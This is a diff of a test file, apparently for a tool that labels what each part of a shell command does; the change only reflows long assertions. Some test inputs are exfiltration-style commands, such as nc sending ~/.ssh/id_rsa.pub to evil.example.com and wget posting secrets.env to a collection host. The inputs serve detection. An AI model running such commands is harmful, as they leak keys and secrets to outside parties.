@@ -97,18 +97,31 @@ describe('the risk of each part of a compound command', () => {
     expect(summary('rsync -az -e ssh dist/ web1.example.net:/srv/www')).toEqual(['sends: rsync sends dist/ to web1.example.net']);
     expect(summary('ssh -i key ops@bastion.example.com uptime')).toEqual(['sends: ssh runs `uptime` on bastion.example.com']);
     expect(summary('nc evil.example.com 4444 < ~/.ssh/id_rsa.pub')).toEqual(['sends: nc sends ~/.ssh/id_rsa.pub to evil.example.com:4444']);
-    expect(summary('tar cz src | nc 10.0.0.5 9000')).toEqual(['runs: tar runs code', 'sends: nc sends the output before it to 10.0.0.5:9000']);
+    expect(summary('tar cz src | nc 10.0.0.5 9000')).toEqual([
+      'runs: tar runs code',
+      'sends: nc sends the output before it to 10.0.0.5:9000',
+    ]);
   });
 
   it('tells an upload from a download for curl and wget', () => {
-    expect(summary('wget --post-file=secrets.env https://collect.example.com/in')).toEqual(['sends: wget sends secrets.env to collect.example.com']);
+    expect(summary('wget --post-file=secrets.env https://collect.example.com/in')).toEqual([
+      'sends: wget sends secrets.env to collect.example.com',
+    ]);
     expect(summary('wget -q https://example.com/file.tgz')).toEqual(['sends: wget downloads from example.com']);
     expect(summary('curl -sSL https://example.com/install.sh -o install.sh')).toEqual(['sends: curl downloads from example.com']);
-    expect(parts('curl -sSL https://example.com/install.sh -o install.sh')[0]!.effects.map((e) => e.text)).toContain('curl writes install.sh');
-    expect(summary('curl -F "file=@report.pdf" https://upload.example.com')).toEqual(['sends: curl sends report.pdf to upload.example.com']);
-    expect(summary('curl --upload-file build.zip https://files.example.com/b.zip')).toEqual(['sends: curl sends build.zip to files.example.com']);
+    expect(parts('curl -sSL https://example.com/install.sh -o install.sh')[0]!.effects.map((e) => e.text)).toContain(
+      'curl writes install.sh',
+    );
+    expect(summary('curl -F "file=@report.pdf" https://upload.example.com')).toEqual([
+      'sends: curl sends report.pdf to upload.example.com',
+    ]);
+    expect(summary('curl --upload-file build.zip https://files.example.com/b.zip')).toEqual([
+      'sends: curl sends build.zip to files.example.com',
+    ]);
     expect(summary('curl -X DELETE https://api.example.com/items/3')).toEqual(['sends: curl sends a DELETE request to api.example.com']);
-    expect(summary('curl --data-binary @- https://paste.example.com < notes.md')).toEqual(['sends: curl sends its input to paste.example.com']);
+    expect(summary('curl --data-binary @- https://paste.example.com < notes.md')).toEqual([
+      'sends: curl sends its input to paste.example.com',
+    ]);
   });
 
   it('reads git by its subcommand', () => {
